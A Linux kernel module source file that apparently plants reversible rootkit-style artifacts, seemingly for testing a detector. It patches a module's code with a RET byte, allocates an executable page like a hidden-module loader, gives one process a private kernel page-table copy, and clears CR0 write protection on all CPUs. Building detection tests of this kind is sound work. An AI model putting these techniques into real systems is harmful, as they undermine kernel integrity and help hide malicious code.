// SPDX-License-Identifier: GPL-2.0-or-later
/* Tricks on memory itself: text of a certified module, a page of code that nobody owns, page tables, control registers. */
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/sched/mm.h>
#include <linux/sched/task.h>
#include <linux/smp.h>
#include <linux/vmalloc.h>
#include <asm/special_insns.h>
#include <asm/tlbflush.h>

#include "rootkit.h"

#define RET 0xc3

/* the first instruction of a function in a module that every guest has */

static u8 *module_text;
static u8 module_byte;

static int module_text_on(pid_t pid)
{
	static const u8 ret = RET;

	module_text = symbol("ovl_statfs");
	if (!module_text)
		return -ENOENT;
	module_byte = module_text[5];
	return overwrite(module_text + 5, &ret, 1);
}

static int module_text_off(void)
{
	return overwrite(module_text + 5, &module_byte, 1);
}

/* code in a page of its own, as loaders of hidden modules leave it */

static void *page_of_code;

static int change_page(const char *how)
{
	int (*change)(unsigned long address, int pages) = symbol(how);

	return change ? change((unsigned long)page_of_code, 1) : -ENOENT;
}

static int kernel_page_on(pid_t pid)
{
	void *(*allocate)(unsigned long size) = symbol("module_alloc");

	page_of_code = allocate ? allocate(PAGE_SIZE) : NULL;
	if (!page_of_code)
		return -ENOMEM;
	memset(page_of_code, RET, PAGE_SIZE);
	return change_page("set_memory_ro") ?: change_page("set_memory_x");
}

static int kernel_page_off(void)
{
	int error = change_page("set_memory_nx") ?: change_page("set_memory_rw");

	if (!error)
		vfree(page_of_code);
	return error;
}

/* one process sees a kernel of its own: its top page table leads to a copy of a table that all others share */

#define KERNEL_IMAGE (PTRS_PER_PGD - 1)

static struct mm_struct *private;
static pgd_t shared;

static int address_space_on(pid_t pid)
{
	struct task_struct *task = task_of(pid);
	void *copy = (void *)get_zeroed_page(GFP_KERNEL);

	private = task ? get_task_mm(task) : NULL;
	if (task)
		put_task_struct(task);
	if (!private || !copy) {
		free_page((unsigned long)copy);
		return -ESRCH;
	}
	shared = private->pgd[KERNEL_IMAGE];
	memcpy(copy, (void *)pgd_page_vaddr(shared), PAGE_SIZE);
	private->pgd[KERNEL_IMAGE] = __pgd(__pa(copy) | pgd_flags(shared));
	return 0;
}

static int address_space_off(void)
{
	unsigned long copy = pgd_page_vaddr(private->pgd[KERNEL_IMAGE]);

	private->pgd[KERNEL_IMAGE] = shared;
	__flush_tlb_all();
	free_page(copy);
	mmput(private);
	return 0;
}

/* write protection of the processor off: the kernel may then write its own text */

static void set_cr0(unsigned long value)
{
	asm volatile("mov %0, %%cr0" : : "r"(value) : "memory"); /* the kernel's own function would not let go of WP */
}

static void open_pages(void *unused)
{
	set_cr0(read_cr0() & ~X86_CR0_WP);
}

static void close_pages(void *unused)
{
	set_cr0(read_cr0() | X86_CR0_WP);
}

/* On every processor: the process that takes it back may run on another one. */
static int write_protect_on(pid_t pid)
{
	on_each_cpu(open_pages, NULL, 1);
	return 0;
}

static int write_protect_off(void)
{
	on_each_cpu(close_pages, NULL, 1);
	return 0;
}

struct trick memory_tricks[] = {
	{ "module-text", module_text_on, module_text_off },
	{ "kernel-page", kernel_page_on, kernel_page_off },
	{ "address-space", address_space_on, address_space_off },
	{ "write-protect", write_protect_on, write_protect_off },
	{},
};
